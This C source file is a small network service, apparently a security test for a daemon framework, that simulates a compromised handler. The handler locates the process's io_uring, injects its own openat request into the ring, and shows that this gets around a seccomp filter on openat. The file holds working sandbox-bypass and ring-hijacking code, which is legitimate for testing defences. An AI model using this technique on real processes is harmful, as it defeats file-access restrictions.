/*
 * ring_attack.c - a service whose handler was taken over: it writes requests of its own to the
 * io_uring of the process it runs in (security rules 6 and 7). One command a line:
 *
 *	ring PATH    open it by the ring of the process, and end the process
 *	own PATH     the same by a ring of our own: shows that the attack as such works
 *	plain PATH   open it by open(2)
 *	filter       forbid open(2) and the like to this process by seccomp
 *
 * Happy path: "ok", or "error NAME". Failure modes: there is no ring: "error ENODEV".
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <netdaemon.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define OUR_NAME 0x4711471147114711U
#define FD_MAX 1024

/* As struct io_uring_cqe, which may be followed by more. */
struct completion {
	uint64_t user_data;
	int32_t res;
	uint32_t flags;
};

/* The shared memory of a ring begins so, on every kernel that there is. */
struct queues {
	uint32_t sq_head, sq_tail, cq_head, cq_tail;
	uint32_t sq_mask, cq_mask, sq_entries, cq_entries;
	uint32_t sq_dropped, sq_flags, cq_flags, cq_overflow;
	uint32_t unused[4];
	struct completion cqes[];
};

static int find_ring(void)
{
	for (int fd = 0; fd < FD_MAX; fd++) {
		char name[64], target[64] = "";

		snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
		if (readlink(name, target, sizeof target - 1) > 0 && strstr(target, "[io_uring]"))
			return fd;
	}
	return -ENODEV;
}

static void *map(int fd, size_t size, off_t offset)
{
	void *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, offset);

	return memory == MAP_FAILED ? NULL : memory;
}

static struct queues *map_queues(int fd)
{
	struct queues *head = map(fd, 4096, IORING_OFF_SQ_RING);
	size_t size;

	if (!head)
		return NULL;
	size = sizeof *head + head->cq_entries * sizeof head->cqes[0] +
	       head->sq_entries * sizeof(uint32_t);
	munmap(head, 4096);
	return map(fd, size, IORING_OFF_SQ_RING);
}

/* What the completion of our request says; -ETIME: there is none. */
static int result_of(const struct queues *queues)
{
	for (uint32_t i = 0; i <= queues->cq_mask; i++)
		if (queues->cqes[i].user_data == OUR_NAME)
			return queues->cqes[i].res;
	return -ETIME;
}

/* One request to open this file, past whoever thinks the ring is his. Never tidies up. */
static int open_by(int fd, const char *path)
{
	struct queues *queues = map_queues(fd);
	struct io_uring_sqe *sqes;
	uint32_t *array, at;

	if (!queues)
		return -errno;
	sqes = map(fd, queues->sq_entries * sizeof *sqes, IORING_OFF_SQES);
	if (!sqes)
		return -errno;
	array = (uint32_t *)(void *)(queues->cqes + queues->cq_entries);
	at = queues->sq_tail & queues->sq_mask;
	sqes[at] = (struct io_uring_sqe){
	    .opcode = IORING_OP_OPENAT,
	    .fd = AT_FDCWD,
	    .addr = (uintptr_t)path,
	    .open_flags = O_RDONLY,
	    .user_data = OUR_NAME,
	};
	array[at] = at;
	__atomic_store_n(&queues->sq_tail, queues->sq_tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	return result_of(queues);
}

static int by_own_ring(const char *path)
{
	struct io_uring_params params = {0};
	long fd = syscall(SYS_io_uring_setup, 4, &params);

	return fd < 0 ? -errno : open_by((int)fd, path);
}

static int by_system_call(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	return fd < 0 ? -errno : fd;
}

static int forbid_open(void)
{
	static struct sock_filter filter[] = {
	    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
	    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	const struct sock_fprog program = {
	    .len = sizeof filter / sizeof filter[0],
	    .filter = filter,
	};

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
	    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) < 0)
		return -errno;
	return 0;
}

static int obey(const char *command, const char *path)
{
	if (strcmp(command, "ring") == 0) {
		int fd = find_ring();

		return fd < 0 ? fd : open_by(fd, path);
	}
	if (strcmp(command, "own") == 0)
		return by_own_ring(path);
	if (strcmp(command, "plain") == 0)
		return by_system_call(path);
	return strcmp(command, "filter") == 0 ? forbid_open() : -ENOSYS;
}

static int run(struct netd_conn *conn)
{
	char line[512], answer[64];
	int fd = netd_fd(conn);
	ssize_t n;

	while ((n = netd_readline(conn, line, sizeof line)) > 0) {
		char *path;
		int rc;

		line[netd_chomp(line, (size_t)n)] = '\0';
		path = strchr(line, ' ');
		if (path)
			*path++ = '\0';
		rc = obey(line, path ? path : "");
		if (rc < 0)
			snprintf(answer, sizeof answer, "error %s\n", strerrorname_np(-rc));
		else
			snprintf(answer, sizeof answer, "ok\n");
		if (write(fd, answer, strlen(answer)) < 0)
			return -errno;
		if (strcmp(line, "ring") == 0)
			_exit(0); /* the ring's owner does not know any more what is in it */
	}
	return (int)n;
}

int main(int argc, char **argv)
{
	static const struct netd_service service =
	    NETD_SERVICE(.name = "ring_attack", .version = "1", .run = run);

	return netd_main(&service, NULL, argc, argv);
}
